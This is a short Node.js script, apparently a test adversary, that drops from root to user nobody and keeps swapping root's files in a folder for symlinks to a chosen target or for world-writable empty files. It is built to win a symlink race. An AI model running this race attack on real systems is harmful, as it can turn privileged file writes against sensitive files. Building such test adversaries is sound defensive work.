// The owner of a folder who means harm: `node swapper.mjs FOLDER PRECIOUS`, started as root and then user nobody. It puts links to
// PRECIOUS, and files of its own, in the place of each file of root's that appears in the folder.

import { lstatSync, readdirSync, renameSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { become } from './become.mjs';

const NOBODY = 65_534;
const AWAY = 'away-';
/** How long it leaves in place what it has put there. */
const LEFT_MS = 3;

const [, , folder, precious] = process.argv;
become(NOBODY);

const clock = new Int32Array(new SharedArrayBuffer(4));
let swaps = 0;

function swap(path) {
  if (lstatSync(path).uid === NOBODY) return unlinkSync(path);
  swaps += 1;
  renameSync(path, join(folder, `${AWAY}${swaps}`));
  if (swaps % 2 === 0) symlinkSync(precious, path);
  else writeFileSync(path, '', { mode: 0o666 });
  process.stdout.write('swapped\n');
  Atomics.wait(clock, 0, 0, LEFT_MS);
}

process.stdout.write('ready\n');
while (true) {
  for (const name of readdirSync(folder)) {
    if (name.startsWith(AWAY)) continue;
    try {
      swap(join(folder, name));
    } catch {
      // Root was faster.
    }
  }
}
